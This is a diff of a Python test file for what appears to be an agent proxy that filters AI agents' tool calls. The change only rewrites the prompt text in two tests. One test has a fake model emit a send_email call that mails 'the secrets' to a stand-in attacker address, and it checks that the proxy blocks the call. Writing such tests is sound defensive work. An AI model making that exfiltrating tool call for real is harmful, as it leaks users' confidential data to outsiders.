@@ -81,7 +81,7 @@ def test_an_allowed_tool_call_reaches_the_app(
     agent_proxy: Proxy, fake: FakeProvider, dialect: str, stream: bool
 ) -> None:
     serve(fake, dialect, stream, "send_email", {"to": "bob@acme.com", "body": "hi"})
-    _, calls = SDKS[dialect](agent_proxy, "Tell Bob hi.", stream)
+    _, calls = SDKS[dialect](agent_proxy, "Send the usual greeting.", stream)
     assert calls == [("send_email", {"to": "bob@acme.com", "body": "hi"})]
 
 
@@ -92,7 +92,7 @@ def test_a_blocked_tool_call_is_an_error_naming_tool_and_rule(
 ) -> None:
     serve(fake, dialect, stream, "send_email", {"to": "x@evil.example", "body": "the secrets"})
     with pytest.raises(Exception) as err:  # each SDK's own error type
-        SDKS[dialect](agent_proxy, "Tell Bob hi.", stream)
+        SDKS[dialect](agent_proxy, "Send the usual greeting.", stream)
     message = str(err.value) + repr(getattr(err.value, "body", ""))
     assert "blocked the tool call" in message and "send_email" in message, message
     assert "tools[1]" in message
